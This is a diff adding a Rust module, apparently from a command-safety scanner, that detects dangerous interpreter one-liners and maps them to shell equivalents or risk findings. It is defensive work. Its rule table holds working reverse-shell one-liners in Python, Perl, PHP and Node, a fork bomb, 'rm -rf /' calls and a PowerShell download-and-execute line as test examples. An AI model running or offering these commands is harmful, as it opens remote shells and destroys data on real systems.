@@ -1,0 +1,452 @@
+//! Interpreter one-liners (`python -c`, `perl -e`, `ruby -e`, `node -e`, `php -r`, `awk`, …):
+//! the obvious file-system and process calls, mapped to the shell command they amount to
+//! (`shutil.rmtree('/x')` → `rm -rf /x`), reverse-shell shapes, and dynamic code that makes the
+//! call opaque.
+
+use std::sync::OnceLock;
+
+use regex::Regex;
+use toolgate_protocol::Risk;
+
+use crate::expand::clip;
+use crate::types::Origin;
+use crate::walk::Walker;
+use crate::words::Field;
+
+/// An interpreter language.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Interp {
+    /// CPython / PyPy.
+    Python,
+    /// Perl.
+    Perl,
+    /// Ruby.
+    Ruby,
+    /// Node.js, Deno, Bun.
+    Node,
+    /// PHP.
+    Php,
+    /// Lua.
+    Lua,
+    /// R.
+    R,
+    /// AppleScript.
+    Osascript,
+    /// PowerShell.
+    PowerShell,
+    /// awk and friends.
+    Awk,
+}
+
+/// The interpreter behind a program name (`python3.12` → Python).
+pub(crate) fn interp_of(prog: &str) -> Option<Interp> {
+    let base = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    Some(match base {
+        "python" | "pypy" | "py" => Interp::Python,
+        "perl" => Interp::Perl,
+        "ruby" | "jruby" => Interp::Ruby,
+        "node" | "nodejs" | "deno" | "bun" => Interp::Node,
+        "php" => Interp::Php,
+        "lua" | "luajit" => Interp::Lua,
+        "Rscript" => Interp::R,
+        "osascript" => Interp::Osascript,
+        "pwsh" | "powershell" => Interp::PowerShell,
+        "awk" | "gawk" | "mawk" | "nawk" => Interp::Awk,
+        _ => return None,
+    })
+}
+
+fn inline_flags(lang: Interp) -> &'static [&'static str] {
+    match lang {
+        Interp::Python => &["-c"],
+        Interp::Perl => &["-e", "-E"],
+        Interp::Ruby | Interp::Lua | Interp::R | Interp::Osascript => &["-e"],
+        Interp::Node => &["-e", "--eval", "-p", "--print", "eval"],
+        Interp::Php => &["-r"],
+        Interp::PowerShell => &[
+            "-c",
+            "-Command",
+            "-command",
+            "-EncodedCommand",
+            "-e",
+            "-enc",
+        ],
+        Interp::Awk => &[],
+    }
+}
+
+/// Inline code given on the command line, if any (all `-e` pieces joined).
+pub(crate) fn inline_code(lang: Interp, argv: &[Field]) -> Option<String> {
+    if lang == Interp::Awk {
+        // The first operand that is not an option (or the value of -v/-F/-f) is the program.
+        let mut i = 1;
+        while i < argv.len() {
+            let a = argv[i].text.as_str();
+            if matches!(a, "-v" | "-F" | "-f" | "--file" | "--assign") {
+                if a == "-f" || a == "--file" {
+                    return None;
+                }
+                i += 2;
+                continue;
+            }
+            if a.starts_with('-') && a.len() > 1 {
+                i += 1;
+                continue;
+            }
+            return Some(a.to_owned());
+        }
+        return None;
+    }
+    let flags = inline_flags(lang);
+    let mut pieces = Vec::new();
+    let mut i = 1;
+    while i < argv.len() {
+        let a = argv[i].text.as_str();
+        if flags.contains(&a) {
+            if let Some(c) = argv.get(i + 1) {
+                pieces.push(c.text.clone());
+            }
+            i += 2;
+            continue;
+        }
+        // Combined forms: `-ne 'code'`, `-pe`, `-lane`.
+        if (lang == Interp::Perl || lang == Interp::Ruby)
+            && a.starts_with('-')
+            && !a.starts_with("--")
+            && a.ends_with('e')
+            && a.len() > 2
+        {
+            if let Some(c) = argv.get(i + 1) {
+                pieces.push(c.text.clone());
+            }
+            i += 2;
+            continue;
+        }
+        if lang == Interp::Python {
+            if let Some(code) = a.strip_prefix("-c").filter(|c| !c.is_empty()) {
+                pieces.push(code.to_owned());
+            }
+            if !a.starts_with('-') {
+                break;
+            }
+        }
+        i += 1;
+    }
+    (!pieces.is_empty()).then(|| pieces.join("\n"))
+}
+
+/// Where an interpreter takes its program from when no inline code is given.
+#[derive(Debug, PartialEq, Eq)]
+pub(crate) enum Script {
+    /// Inline code or a module (`-c`, `-e`, `-m`): nothing to read.
+    None,
+    /// Standard input.
+    Stdin,
+    /// A script file at this argv index.
+    File(usize),
+}
+
+/// Where the program comes from.
+pub(crate) fn script_arg(lang: Interp, argv: &[Field]) -> Script {
+    if inline_code(lang, argv).is_some() {
+        return Script::None;
+    }
+    if lang == Interp::Awk {
+        return Script::None;
+    }
+    let mut i = 1;
+    while i < argv.len() {
+        let a = argv[i].text.as_str();
+        if a == "-" {
+            return Script::Stdin;
+        }
+        if lang == Interp::Python && (a == "-m" || a.starts_with("-m")) {
+            return Script::None;
+        }
+        if a.starts_with('-') {
+            // Options with a value.
+            if matches!(
+                a,
+                "-W" | "-X"
+                    | "-r"
+                    | "--require"
+                    | "-I"
+                    | "-M"
+                    | "--import"
+                    | "--loader"
+                    | "-d"
+                    | "--config"
+                    | "-C"
+            ) {
+                i += 1;
+            }
+            i += 1;
+            continue;
+        }
+        if lang == Interp::Node
+            && matches!(
+                a,
+                "run"
+                    | "test"
+                    | "install"
+                    | "x"
+                    | "add"
+                    | "upgrade"
+                    | "create"
+                    | "build"
+                    | "serve"
+                    | "task"
+            )
+        {
+            return Script::None;
+        }
+        return Script::File(i);
+    }
+    if lang == Interp::Osascript || lang == Interp::PowerShell {
+        return Script::None;
+    }
+    Script::Stdin
+}
+
+/// What a piece of interpreter code does, as far as the obvious calls show.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum Effect {
+    /// An equivalent shell command line (`rm -rf '/x'`) or a shell command the code runs.
+    Shell(&'static str, String),
+    /// Writes a file.
+    Write(&'static str, String),
+    /// A finding that needs no further analysis.
+    Finding(&'static str, Risk, &'static str, String),
+    /// Something that hides what runs.
+    Opaque(&'static str, String),
+}
+
+/// An interpreter rule: a pattern over the code and what a match means.
+pub(crate) struct InterpRule {
+    /// Rule id.
+    pub id: &'static str,
+    /// Languages it applies to.
+    pub langs: &'static [Interp],
+    /// Regex; capture group 1 or 2 is the string literal argument when the action needs one.
+    pub pattern: &'static str,
+    /// What a match means.
+    pub action: Action,
+    /// Code that must match.
+    pub matches: &'static [&'static str],
+    /// Look-alikes that must not.
+    pub not_matches: &'static [&'static str],
+}
+
+/// What a matching [`InterpRule`] means.
+#[derive(Debug, Clone, Copy)]
+pub(crate) enum Action {
+    /// `rm -rf ARG`.
+    RemoveTree,
+    /// `rm ARG`.
+    Remove,
+    /// Runs ARG as a shell command.
+    Shell,
+    /// Writes ARG.
+    Write,
+    /// Opaque with this reason.
+    Opaque(&'static str),
+    /// A finding: category, risk, explanation.
+    Finding(&'static str, Risk, &'static str),
+}
+
+/// A quoted string literal: group 1 (single) or 2 (double).
+const S: &str = r#"(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)")"#;
+
+macro_rules! lit {
+    ($pre:expr) => {
+        concat!($pre, r#"\s*(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)")"#)
+    };
+}
+
+use Interp::{Awk, Lua, Node, Osascript, Perl, Php, PowerShell, Python, R, Ruby};
+
+/// All interpreter rules.
+#[rustfmt::skip]
+pub(crate) const INTERP_RULES: &[InterpRule] = &[
+    InterpRule { id: "py.rmtree", langs: &[Python], pattern: lit!(r"shutil\.rmtree\("), action: Action::RemoveTree, matches: &["import shutil; shutil.rmtree('/home/u')"], not_matches: &["print('shutil.rmtree')"]},
+    InterpRule { id: "py.remove", langs: &[Python], pattern: lit!(r"os\.(?:remove|unlink|rmdir|removedirs)\("), action: Action::Remove, matches: &["import os; os.remove('/etc/passwd')"], not_matches: &["os.path.exists('/x')"]},
+    InterpRule { id: "py.path_unlink", langs: &[Python], pattern: concat!(r"Path\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")\s*\)\.(?:unlink|rmdir)"#), action: Action::Remove, matches: &["from pathlib import Path; Path('/x').unlink()"], not_matches: &["Path('/x').exists()"]},
+    InterpRule { id: "py.system", langs: &[Python], pattern: lit!(r"(?:os\.(?:system|popen)|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput))\(\s*(?:args\s*=\s*)?"), action: Action::Shell, matches: &["import os; os.system('rm -rf /')"], not_matches: &["print('os.system')"]},
+    InterpRule { id: "py.subprocess_list", langs: &[Python], pattern: r"subprocess\.(?:run|call|check_call|check_output|Popen)\(\s*\[([^\]]*)\]", action: Action::Shell, matches: &["import subprocess; subprocess.run(['rm', '-rf', '/'])"], not_matches: &["subprocess_run = 1"]},
+    InterpRule { id: "py.open_write", langs: &[Python], pattern: concat!(r"open\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")\s*,\s*['"][wax]"#), action: Action::Write, matches: &["open('/etc/hosts', 'w').write('x')"], not_matches: &["open('/etc/hosts').read()"]},
+    InterpRule { id: "py.dynamic_exec", langs: &[Python], pattern: r"\b(?:exec|eval|compile|__import__)\s*\(|os\.(?:system|popen|exec\w*|spawn\w*)\(\s*[^'\x22\s]|subprocess\.\w+\(\s*[^'\x22\[\s]", action: Action::Opaque("runs code or commands built at run time"), matches: &["exec(base64.b64decode(x))", "os.system(cmd)"], not_matches: &["print(1)", "os.system('ls')"]},
+    InterpRule { id: "py.reverse_shell", langs: &[Python], pattern: r"(?s)socket.*connect.*(?:dup2|pty\.spawn|subprocess|/bin/(?:ba)?sh)", action: Action::Finding("reverse_shell", Risk::Catastrophic, "connects a socket to a shell"), matches: &["import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"], not_matches: &["import socket; socket.gethostname()"]},
+    InterpRule { id: "py.fork_bomb", langs: &[Python], pattern: r"(?s)while\s+(?:True|1)\s*:.*os\.fork\(\)", action: Action::Finding("fork_bomb", Risk::Catastrophic, "forks in an endless loop"), matches: &["import os\nwhile True: os.fork()"], not_matches: &["import os; os.fork()"]},
+    InterpRule { id: "pl.rmtree", langs: &[Perl], pattern: lit!(r"(?:rmtree|remove_tree)\s*\(?"), action: Action::RemoveTree, matches: &["use File::Path; rmtree('/x')"], not_matches: &["print 'rmtree'"]},
+    InterpRule { id: "pl.unlink", langs: &[Perl, Php], pattern: lit!(r"\b(?:unlink|rmdir)\s*\(?"), action: Action::Remove, matches: &["unlink('/etc/passwd')", "unlink \"/x\""], not_matches: &["print 'x'"]},
+    InterpRule { id: "pl.unlink_glob", langs: &[Perl, Php], pattern: lit!(r"\b(?:unlink|rmtree)\s*\(?\s*glob\s*\("), action: Action::RemoveTree, matches: &["unlink glob(\"/etc/*\");"], not_matches: &["print glob('x')"]},
+    InterpRule { id: "pl.system", langs: &[Perl, Ruby, Php], pattern: lit!(r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|IO\.popen|spawn|qx)\s*[\(\{]?"), action: Action::Shell, matches: &["system('rm -rf /')", "exec \"rm -rf /\""], not_matches: &["print 'hello'"]},
+    InterpRule { id: "pl.backticks", langs: &[Perl, Ruby, Php], pattern: r"`([^`]+)`", action: Action::Shell, matches: &["print `rm -rf /`"], not_matches: &["print 'a'"]},
+    InterpRule { id: "pl.reverse_shell", langs: &[Perl, Ruby, Php], pattern: r"(?s)(?:socket|TCPSocket|fsockopen|IO::Socket).*(?:exec|system|spawn|proc_open|/bin/(?:ba)?sh|open\s*\(\s*STD)", action: Action::Finding("reverse_shell", Risk::Catastrophic, "connects a socket to a shell"), matches: &["use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in(4242,inet_aton('10.0.0.1')))){open(STDIN,'>&S');exec('/bin/sh -i');};", "$sock=fsockopen('10.0.0.1',4242);exec('/bin/sh -i <&3 >&3 2>&3');"], not_matches: &["print 'socket'"]},
+    InterpRule { id: "pl.fork_bomb", langs: &[Perl, Ruby], pattern: r"fork\s+while\s+fork|loop\s*\{\s*fork", action: Action::Finding("fork_bomb", Risk::Catastrophic, "forks in an endless loop"), matches: &["fork while fork"], not_matches: &["fork"]},
+    InterpRule { id: "rb.rm_rf", langs: &[Ruby], pattern: lit!(r"FileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry|remove_entry_secure|rmtree)\s*\(?"), action: Action::RemoveTree, matches: &["require 'fileutils'; FileUtils.rm_rf('/')"], not_matches: &["FileUtils.mkdir_p('x')"]},
+    InterpRule { id: "rb.rm", langs: &[Ruby], pattern: lit!(r"(?:FileUtils\.rm|File\.delete|File\.unlink|Dir\.rmdir)\s*\(?"), action: Action::Remove, matches: &["File.delete('/x')"], not_matches: &["File.read('/x')"]},
+    InterpRule { id: "rb.eval", langs: &[Ruby, Perl, Php], pattern: r"\beval\s*[\(\s]", action: Action::Opaque("evaluates code built at run time"), matches: &["eval(Base64.decode64(x))"], not_matches: &["puts 1"]},
+    InterpRule { id: "js.rm_rf", langs: &[Node], pattern: concat!(r"(?:fs\.)?(?:rmSync|rmdirSync|rm|rmdir)\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")[^)]*recursive"#), action: Action::RemoveTree, matches: &["require('fs').rmSync('/x', {recursive: true, force: true})"], not_matches: &["fs.readFileSync('/x')"]},
+    InterpRule { id: "js.unlink", langs: &[Node], pattern: lit!(r"(?:fs|\))\.(?:unlinkSync|unlink|rmSync|rm)\("), action: Action::Remove, matches: &["require('fs').unlinkSync('/etc/passwd')"], not_matches: &["fs.existsSync('/x')"]},
+    InterpRule { id: "js.exec", langs: &[Node], pattern: lit!(r"\b(?:execSync|exec|spawnSync|spawn|execFileSync|execFile)\("), action: Action::Shell, matches: &["require('child_process').execSync('rm -rf /')"], not_matches: &["console.log('exec')"]},
+    InterpRule { id: "js.write", langs: &[Node], pattern: lit!(r"(?:fs|\))\.(?:writeFileSync|writeFile|appendFileSync)\("), action: Action::Write, matches: &["require('fs').writeFileSync('/etc/hosts', 'x')"], not_matches: &["fs.readFileSync('/etc/hosts')"]},
+    InterpRule { id: "js.dynamic", langs: &[Node], pattern: r"\beval\s*\(|new\s+Function\s*\(|(?:execSync|exec|spawn)\(\s*[^'\x22\s]", action: Action::Opaque("runs code or commands built at run time"), matches: &["eval(atob(x))"], not_matches: &["console.log(1)"]},
+    InterpRule { id: "js.reverse_shell", langs: &[Node], pattern: r"(?s)(?:net\.Socket|net\.connect|createConnection).*(?:child_process|spawn|/bin/(?:ba)?sh)|(?:child_process|spawn).*(?:net\.Socket|net\.connect|createConnection)", action: Action::Finding("reverse_shell", Risk::Catastrophic, "connects a socket to a shell"), matches: &["var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4242,'10.0.0.1')"], not_matches: &["require('net')"]},
+    InterpRule { id: "api.delete_call", langs: &[Python, Node, Ruby], pattern: r"\.(?:delete|destroy|drop|purge|truncate|flush|clear)(?:Index|Objects|All|_all|Database|Table|Collection|Bucket|Many|_many|Items|Keys)\w*\b", action: Action::Finding("resource_destruction", Risk::High, "calls an API that deletes data in bulk"), matches: &["client.deleteIndex('prod')", "algolia.clearObjects('products')", "Project.destroy_all"], not_matches: &["d.delete(k)", "print(1)"]},
+    InterpRule { id: "lua.exec", langs: &[Lua, R], pattern: lit!(r"(?:os\.execute|io\.popen|system|system2)\s*\(?"), action: Action::Shell, matches: &["os.execute('rm -rf /')"], not_matches: &["print('x')"]},
+    InterpRule { id: "lua.remove", langs: &[Lua, R], pattern: lit!(r"(?:os\.remove|unlink|file\.remove)\s*\(?"), action: Action::Remove, matches: &["os.remove('/x')"], not_matches: &["print('x')"]},
+    InterpRule { id: "awk.system", langs: &[Awk], pattern: lit!(r"\bsystem\s*\(?"), action: Action::Shell, matches: &["BEGIN { system(\"rm -rf /\") }"], not_matches: &["{ print $1 }"]},
+    InterpRule { id: "awk.pipe", langs: &[Awk], pattern: r#""([^"]+)"\s*\|\s*getline|\|\s*"([^"]+)""#, action: Action::Shell, matches: &["BEGIN { \"id\" | getline x }"], not_matches: &["{ print $1 }"]},
+    InterpRule { id: "awk.write", langs: &[Awk], pattern: r#"print[^>;}]*>>?\s*"([^"]+)""#, action: Action::Write, matches: &["{ print $1 > \"/etc/x\" }"], not_matches: &["{ print $1 }"]},
+    InterpRule { id: "osa.shell", langs: &[Osascript], pattern: lit!(r"do shell script\s*"), action: Action::Shell, matches: &["do shell script \"rm -rf ~\""], not_matches: &["display dialog \"x\""]},
+    InterpRule { id: "ps.remove", langs: &[PowerShell], pattern: r"(?i)(?:Remove-Item|\brm\b|\bdel\b|\brmdir\b)[^;|]*-Recurse", action: Action::Finding("catastrophic_deletion", Risk::High, "deletes recursively"), matches: &["Remove-Item -Recurse -Force C:\\"], not_matches: &["Get-Item x"]},
+    InterpRule { id: "ps.iex", langs: &[PowerShell], pattern: r"(?i)Invoke-Expression|\biex\b|-EncodedCommand|FromBase64String", action: Action::Opaque("evaluates code built at run time"), matches: &["iex (New-Object Net.WebClient).DownloadString('http://x')"], not_matches: &["Get-ChildItem"]},
+];
+
+fn compiled() -> &'static Vec<Option<Regex>> {
+    static RE: OnceLock<Vec<Option<Regex>>> = OnceLock::new();
+    RE.get_or_init(|| {
+        INTERP_RULES
+            .iter()
+            .map(|r| Regex::new(r.pattern).ok())
+            .collect()
+    })
+}
+
+fn unescape(s: &str) -> String {
+    crate::words::decode_ansi_c(s)
+}
+
+/// The effects of `code` in `lang`.
+pub(crate) fn effects(lang: Interp, code: &str) -> Vec<Effect> {
+    let _ = S;
+    let mut out = Vec::new();
+    for (rule, re) in INTERP_RULES.iter().zip(compiled()) {
+        let Some(re) = re else { continue };
+        if !rule.langs.contains(&lang) {
+            continue;
+        }
+        for caps in re.captures_iter(code).take(16) {
+            let arg = caps
+                .get(1)
+                .or_else(|| caps.get(2))
+                .map(|m| unescape(m.as_str()))
+                .unwrap_or_default();
+            match rule.action {
+                Action::RemoveTree => out.push(Effect::Shell(
+                    rule.id,
+                    format!("rm -rf {}", crate::feed::shell_quote(&arg)),
+                )),
+                Action::Remove => out.push(Effect::Shell(
+                    rule.id,
+                    format!("rm {}", crate::feed::shell_quote(&arg)),
+                )),
+                Action::Shell if rule.id == "py.subprocess_list" => {
+                    let words: Vec<String> = arg
+                        .split(',')
+                        .map(|w| w.trim().trim_matches(|c| c == '\'' || c == '"').to_owned())
+                        .map(|w| crate::feed::shell_quote(&w))
+                        .collect();
+                    out.push(Effect::Shell(rule.id, words.join(" ")));
+                }
+                Action::Shell => out.push(Effect::Shell(rule.id, arg)),
+                Action::Write => out.push(Effect::Write(rule.id, arg)),
+                Action::Opaque(why) => out.push(Effect::Opaque(rule.id, why.to_owned())),
+                Action::Finding(cat, risk, why) => {
+                    out.push(Effect::Finding(rule.id, risk, cat, why.to_owned()))
+                }
+            }
+            if matches!(rule.action, Action::Opaque(_) | Action::Finding(..)) {
+                break;
+            }
+        }
+    }
+    out
+}
+
+impl Walker<'_> {
+    /// Applies the effects of interpreter code run by `prog`.
+    pub fn scan_interp(&mut self, lang: Interp, code: &str, prog: &str) {
+        if code.len() > self.limits.max_value_bytes {
+            self.opaque(format!(
+                "`{prog}` code over {} bytes was not analysed",
+                self.limits.max_value_bytes
+            ));
+            return;
+        }
+        let owner = self.recs.len().checked_sub(1);
+        for e in effects(lang, code) {
+            match e {
+                Effect::Shell(_, cmd) => self.nested_code(&cmd, Origin::Interpreter, None, None),
+                Effect::Write(_, path) => {
+                    if let Some(r) = owner.and_then(|o| self.recs.get_mut(o)) {
+                        r.extra_writes.push(path);
+                    }
+                }
+                Effect::Finding(id, risk, cat, why) => {
+                    self.finding(
+                        risk,
+                        cat,
+                        format!("`{prog} {}` (rule {id}): {why}", clip(code)),
+                    );
+                }
+                Effect::Opaque(id, why) => self.opaque(format!("`{prog}` code {why} (rule {id})")),
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn interp_rules_walk_their_examples() {
+        for (rule, re) in INTERP_RULES.iter().zip(compiled()) {
+            assert!(re.is_some(), "rule {} does not compile", rule.id);
+            for m in rule.matches {
+                let hit = rule.langs.iter().any(|l| {
+                    effects(*l, m).iter().any(|e| match e {
+                        Effect::Shell(id, _)
+                        | Effect::Write(id, _)
+                        | Effect::Finding(id, ..)
+                        | Effect::Opaque(id, _) => *id == rule.id,
+                    })
+                });
+                assert!(hit, "{} should match {m}", rule.id);
+            }
+            for m in rule.not_matches {
+                let hit = rule.langs.iter().any(|l| {
+                    effects(*l, m).iter().any(|e| match e {
+                        Effect::Shell(id, _)
+                        | Effect::Write(id, _)
+                        | Effect::Finding(id, ..)
+                        | Effect::Opaque(id, _) => *id == rule.id,
+                    })
+                });
+                assert!(!hit, "{} should not match {m}", rule.id);
+            }
+        }
+    }
+
+    #[test]
+    fn finds_inline_code() {
+        let argv: Vec<Field> = ["python3", "-c", "print(1)"]
+            .iter()
+            .map(|s| Field::lit(*s))
+            .collect();
+        assert_eq!(
+            inline_code(Interp::Python, &argv).as_deref(),
+            Some("print(1)")
+        );
+        let argv: Vec<Field> = ["perl", "-ne", "print"]
+            .iter()
+            .map(|s| Field::lit(*s))
+            .collect();
+        assert_eq!(inline_code(Interp::Perl, &argv).as_deref(), Some("print"));
+        let argv: Vec<Field> = ["python3"].iter().map(|s| Field::lit(*s)).collect();
+        assert_eq!(script_arg(Interp::Python, &argv), Script::Stdin);
+        assert_eq!(interp_of("python3.12"), Some(Interp::Python));
+    }
+}
